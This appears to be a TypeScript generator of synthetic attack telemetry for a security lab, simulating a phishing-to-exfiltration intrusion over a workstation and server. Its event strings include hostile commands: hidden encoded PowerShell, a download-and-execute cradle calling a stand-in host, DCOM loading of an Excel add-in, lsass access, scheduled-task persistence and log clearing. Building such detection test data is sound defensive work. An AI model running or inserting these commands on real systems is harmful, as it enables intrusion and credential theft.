import { type Office, office16, seconds, system32 } from './office.ts'
import type { Session } from './recorder.ts'
import type { LabWorld } from './world.ts'

type Micros = number
const powershell = `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`

/** Which machines and accounts the intrusion passes through; the truth names them too. */
export interface IntrusionPlan {
  readonly patient: string
  readonly target: string
  readonly user: string
  readonly admin: string
  readonly service: string
  /** When the first hit, Excel asked for from the other machine, starts. */
  readonly hitTime: Micros
}

export const planIntrusion = (world: LabWorld, hitTime: Micros): IntrusionPlan => {
  const patient = world.workstations[0]
  const target = world.servers[0]
  const user = world.staff[0]
  const admin = world.admins[0]
  if (!patient || !target || !user || !admin)
    throw new RangeError('the intrusion needs a workstation, a server and its people')
  return {
    patient: patient.name,
    target: target.name,
    user: user.name,
    admin: admin.name,
    service: world.service.name,
    hitTime,
  }
}

/**
 * One intrusion over two assets and three identities: a phishing document, COM asked for over the network,
 * shells, persistence, credentials, exfiltration. Each record says which step it is.
 */
export const intrude = (office: Office, plan: IntrusionPlan): void => {
  const { world, random } = office
  const ws = office.machine(plan.patient)
  const srv = office.machine(plan.target)
  const at = plan.hitTime
  const { explorer, session, user } = office.desktop(ws, at - seconds(5000))
  const admin = world.admins.find((a) => a.name === plan.admin) ?? world.service
  const attacker = '203.0.113.77'

  // Access: the document arrives and runs a shell.
  const outlook = ws.start(
    at - seconds(3900),
    explorer,
    `${office16}\\OUTLOOK.EXE`,
    `"${office16}\\OUTLOOK.EXE"`,
    session,
    'access.mail',
  )
  const lure = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2K\\Q3-variance.xlsm`
  ws.write(at - seconds(3870), outlook, lure, 'access.file')
  const excel = ws.start(
    at - seconds(3860),
    outlook,
    `${office16}\\EXCEL.EXE`,
    `"${office16}\\EXCEL.EXE" "${lure}"`,
    session,
    'access.document',
  )
  const stage = ws.start(
    at - seconds(3840),
    excel,
    powershell,
    'powershell.exe -nop -w hidden -enc JABjAD0AJwBxADMAJwA7AGkAZQB4ACAAJABjAA==',
    session,
    'access.shell',
  )
  ws.scriptBlock(
    at - seconds(3838),
    stage,
    '$c = New-Object Net.WebClient; iex $c.DownloadString("https://updates.fin-portal.example/q3")',
    'access.script',
  )
  ws.resolveName(at - seconds(3836), stage, 'updates.fin-portal.example', 'access.dns')
  ws.connection(
    at - seconds(3835),
    stage,
    'out',
    { ip: ws.host.ip, port: 50_112 },
    { ip: attacker, port: 443 },
    'access.callback',
  )

  // Lateral movement: the add-in is copied over the administrative share, then Excel is asked to load it.
  const smb = { ip: ws.host.ip, port: 52_101 }
  ws.connection(at - seconds(58.4), stage, 'out', smb, { ip: srv.host.ip, port: 445 }, 'move.smb')
  srv.connection(
    at - seconds(58.38),
    srv.services,
    'in',
    smb,
    { ip: srv.host.ip, port: 445 },
    'move.smb',
  )
  const copySession = srv.logon(
    at - seconds(58.2),
    srv.accountOf(user),
    3,
    smb,
    true,
    'move.copy-logon',
  )
  srv.share(at - seconds(42), copySession, smb, '\\\\*\\ADMIN$', 'Temp\\var.xll', 'move.copy')
  srv.write(at - seconds(41.6), srv.services, 'C:\\Windows\\Temp\\var.xll', 'move.copied')
  srv.logoff(at - seconds(30), copySession, 'move.copy-logoff')
  ws.scriptBlock(
    at - seconds(6.4),
    stage,
    `$x = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application", "${srv.host.name}")); $x.RegisterXLL("C:\\Windows\\Temp\\var.xll")`,
    'move.com',
  )
  const rpc = { ip: ws.host.ip, port: 52_114 }
  ws.connection(at - seconds(3), stage, 'out', rpc, { ip: srv.host.ip, port: 135 }, 'move.rpc')
  srv.connection(
    at - seconds(2.98),
    srv.rpcss,
    'in',
    rpc,
    { ip: srv.host.ip, port: 135 },
    'move.rpc',
  )
  const com: Session = srv.logon(at - seconds(2.1), srv.accountOf(user), 3, rpc, true, 'move.logon')
  const server = srv.start(
    at,
    srv.dcomLaunch,
    `${office16}\\EXCEL.EXE`,
    `"${office16}\\EXCEL.EXE" /automation -Embedding`,
    com,
    'hit',
  )

  // Actions: the add-in is loaded, shells follow.
  for (const [i, dll] of [
    'ntdll.dll',
    'kernel32.dll',
    'combase.dll',
    'rpcrt4.dll',
    'oleaut32.dll',
  ].entries()) {
    srv.load(at + seconds(0.05) + i * 4000, server, `${system32}\\${dll}`, true, 'act.load')
  }
  srv.load(at + seconds(3.8), server, 'C:\\Windows\\Temp\\var.xll', false, 'act.load-addin')
  const shell = srv.start(
    at + seconds(4.6),
    server,
    `${system32}\\cmd.exe`,
    'cmd.exe /c whoami & net group "Domain Admins" /domain',
    com,
    'act.shell',
  )
  for (const [i, [exe, command]] of (
    [
      ['whoami.exe', 'whoami'],
      ['net.exe', 'net group "Domain Admins" /domain'],
      ['net1.exe', 'net1 group "Domain Admins" /domain'],
    ] as const
  ).entries()) {
    const child = srv.start(
      at + seconds(5 + i * 0.4),
      shell,
      `${system32}\\${exe}`,
      command,
      com,
      'act.discovery',
    )
    srv.end(at + seconds(5.3 + i * 0.4), child, 'act.discovery')
  }
  srv.end(at + seconds(7), shell, 'act.shell-end')
  srv.connection(
    at + seconds(14.2),
    server,
    'out',
    { ip: srv.host.ip, port: 60_444 },
    { ip: attacker, port: 443 },
    'act.callback',
  )
  const worker = srv.start(
    at + seconds(104),
    server,
    powershell,
    'powershell -nop -w hidden -c iex (gc C:\\ProgramData\\q3.txt -raw)',
    com,
    'act.worker',
  )
  srv.scriptBlock(
    at + seconds(106),
    worker,
    'Register-ScheduledTask -TaskName FinUpd -Action $a -Trigger $t -User SYSTEM',
    'act.script',
  )

  // Persistence: a program, a Run value, a task.
  const implant = 'C:\\ProgramData\\FinUpd\\finupd.exe'
  srv.write(at + seconds(176), worker, implant, 'persist.file')
  srv.setValue(
    at + seconds(268),
    worker,
    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\FinUpd',
    implant,
    'persist.run-key',
  )
  srv.write(at + seconds(401.9), srv.schedule, `${system32}\\Tasks\\FinUpd`, 'persist.task-file')
  srv.registerTask(at + seconds(402), com, '\\FinUpd', implant, 'persist.task')

  // Credentials: lsass is read, another account is used.
  srv.access(at + seconds(715), worker, srv.lsass, '0x1010', 'credentials.lsass')
  srv.write(at + seconds(716), worker, 'C:\\ProgramData\\FinUpd\\l.bin', 'credentials.dump')
  srv.explicitCredentials(
    at + seconds(1330),
    worker,
    srv.accountOf(admin),
    plan.patient,
    'credentials.explicit',
  )
  const back = { ip: srv.host.ip, port: 61_020 }
  srv.connection(
    at + seconds(1330.2),
    worker,
    'out',
    back,
    { ip: ws.host.ip, port: 445 },
    'onward.connection',
  )
  ws.connection(
    at + seconds(1330.21),
    ws.services,
    'in',
    back,
    { ip: ws.host.ip, port: 445 },
    'onward.connection',
  )
  const onward = ws.logon(at + seconds(1331), ws.accountOf(admin), 3, back, true, 'onward.logon')
  ws.share(
    at + seconds(1334),
    onward,
    back,
    '\\\\*\\C$',
    `Users\\${user.name}\\Documents\\budget-1.xlsx`,
    'onward.share',
  )
  ws.logoff(at + seconds(1400), onward, 'onward.logoff')
  srv.end(at + seconds(1500), worker, 'act.worker-end')

  // Exfiltration: the task runs the implant under the system account.
  const runAt = at + seconds(4500)
  const run = srv.start(
    runAt,
    srv.schedule,
    implant,
    `${implant} --push D:\\reports`,
    undefined,
    'exfil.run',
  )
  srv.runTask(runAt - seconds(0.2), '\\FinUpd', run, 'exfil.task-run')
  srv.write(runAt + seconds(20), run, 'C:\\ProgramData\\FinUpd\\r.7z', 'exfil.archive')
  for (let i = 0; i < 9; i += 1) {
    srv.connection(
      runAt + seconds(60 + i * 45),
      run,
      'out',
      { ip: srv.host.ip, port: 62_000 + i + random.int(0, 3) * 10 },
      { ip: attacker, port: 443 },
      'exfil.send',
    )
  }
  srv.end(runAt + seconds(600), run, 'exfil.end')
  srv.end(at + seconds(5400), server, 'act.end')
  srv.logoff(at + seconds(5401), com, 'act.logoff')
  const service = srv.logon(
    at + seconds(5500),
    srv.accountOf(world.service),
    3,
    { ip: ws.host.ip, port: 52_390 },
    true,
    'cover.logon',
  )
  srv.clearSecurityLog(at + seconds(5510), service, 'cover.log-cleared')
}
